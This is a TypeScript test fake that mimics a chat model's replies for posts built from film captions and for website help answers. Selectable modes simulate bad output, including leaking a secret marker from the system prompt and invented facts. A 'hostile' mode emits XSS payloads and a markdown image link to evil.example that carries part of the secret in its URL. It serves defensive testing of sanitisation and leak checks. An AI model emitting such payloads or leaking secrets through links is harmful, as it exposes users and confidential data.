import { wordsOf } from '@tosite/validation/text/words';

export type ChatRequest = {
  model: string;
  messages: { role: string; content: string }[];
  response_format?: { type: string };
  max_tokens?: number;
  stream?: boolean;
};

/** What it was told to keep to itself. */
const MARK = /\bMARK-[0-9A-F]+\b/u;
const FOREIGN = 'Här står något helt annat som ingen någonsin har sagt i filmen, på ett annat språk.';

/** A post out of numbered captions, or a text out of what stands in the material: copied, not thought of. */
export function answerOfModel({ messages }: ChatRequest, behaviour: string): string {
  const system = messages.find(({ role }) => role === 'system')?.content ?? '';
  const prompt = messages.find(({ role }) => role === 'user')?.content ?? '';
  const mark = MARK.exec(system)?.[0] ?? '';
  if (behaviour === 'invalid') return 'I am sorry, here is your post: it is about things.';
  if (behaviour === 'huge') return `{"title": "${'x'.repeat(1_100_000)}"}`;
  const captions = [...prompt.matchAll(/^\[(\d+)\] (.*)$/gmu)].map(([, number, text = '']) => ({
    number: Number(number),
    text,
  }));
  if (captions.length === 0) return helpOf(prompt, { behaviour, mark });
  const post = postOf(prompt, captions, { behaviour, mark });
  const json = JSON.stringify(post);
  return behaviour === 'fenced' ? `Here is the post:\n\`\`\`json\n${json}\n\`\`\`\nI hope it helps.` : json;
}

type Told = { number: number; text: string };

function postOf(
  prompt: string,
  captions: readonly Told[],
  { behaviour, mark }: { behaviour: string; mark: string },
) {
  const budget = Number(/About (\d+) words/u.exec(prompt)?.[1] ?? 300);
  const title = /^Title: (.+)$/mu.exec(prompt)?.[1] ?? 'A film';
  const groups = grouped(captions, budget);
  const paragraphs = groups.map((group, index) => ({
    text: wordsOfGroup(group, index, { behaviour, mark }),
    captions: behaviour === 'numbers' ? [100_000 + index] : group.map(({ number }) => number),
  }));
  const half = Math.ceil(paragraphs.length / 2);
  const headed = (part: typeof paragraphs) => ({
    heading: (part[0]?.text ?? '').split(/[.!?]/u)[0]?.slice(0, 60).trim() ?? '',
    paragraphs: part,
  });
  return {
    title: behaviour === 'hostile' ? `<script>alert(1)</script>${title}` : title,
    excerpt: captions[0]?.text ?? '',
    sections: [headed(paragraphs.slice(0, half)), headed(paragraphs.slice(half))].filter(
      (section) => section.paragraphs.length > 0,
    ),
  };
}

function wordsOfGroup(
  group: readonly Told[],
  index: number,
  { behaviour, mark }: { behaviour: string; mark: string },
) {
  const said = group.map(({ text }) => text).join(' ');
  if (behaviour === 'foreign') return FOREIGN;
  if (behaviour === 'leaks' && index === 0) return `${said} ${mark}`;
  if (behaviour === 'invents' && index === 0) return `${said} It weighs 4711 grams.`;
  if (behaviour === 'hostile')
    return [
      index === 0 ? '---\ntitle: x\n---\n' : '',
      `<script>alert(1)</script>${said}`,
      `![a](https://evil.example/?q=${mark.slice(0, 4)}) [here](javascript:alert(1)) <img src=x onerror=alert(1)>`,
      'javascript:alert(2) https://evil.example/track data:text/html,x',
    ].join(' ');
  return said;
}

/** Neighbours of about five captions, from all over the film, up to so many words. */
function grouped(captions: readonly Told[], budget: number): Told[][] {
  const groups: Told[][] = [];
  for (let at = 0; at < captions.length; at += 5) groups.push(captions.slice(at, at + 5));
  const words = (group: readonly Told[]) => group.reduce((sum, { text }) => sum + wordsOf(text).length, 0);
  const all = groups.reduce((sum, group) => sum + words(group), 0);
  const step = Math.max(1, Math.round(all / Math.max(1, budget)));
  return groups.filter((_, index) => index % step === 0);
}

function helpOf(prompt: string, { behaviour, mark }: { behaviour: string; mark: string }): string {
  const [head = '', , ...rest] = prompt.split('\n');
  const asked = head.replace(/^The owner asks: /u, '');
  const material = rest.filter(
    (line) => !MARK.test(line) && !/^(?:What the website says|The text and what)/u.test(line),
  );
  if (behaviour === 'refuses') return `NOT-KNOWN: ${asked}`;
  if (behaviour === 'leaks') return `Of course: ${mark} and more.`;
  if (behaviour === 'foreign') return FOREIGN;
  if (behaviour === 'hostile')
    return `**Bold** <script>alert(1)</script> ![a](https://evil.example/?q=1) [here](javascript:alert(1)) ${material.join(' ')}`;
  const said = new Set(wordsOf(material.join(' ')));
  const quoted = /["“«]([^"“”«»]+)["”»]/u.exec(asked)?.[1];
  // What stands in quotation marks and nowhere else is asked for in vain.
  if (quoted !== undefined && !wordsOf(quoted).some((word) => said.has(word))) return `NOT-KNOWN: ${quoted}`;
  const text = material
    .map((line) => line.replace(/^[\w ]{2,22}: ?/u, '').replace(/^(?:Name|Headline|Place) · /u, ''))
    .join(' ')
    .replaceAll(/\s+/gu, ' ')
    .trim();
  return `${text.slice(0, 900)}${behaviour === 'invents' ? ' Founded in 4711.' : ''}`;
}
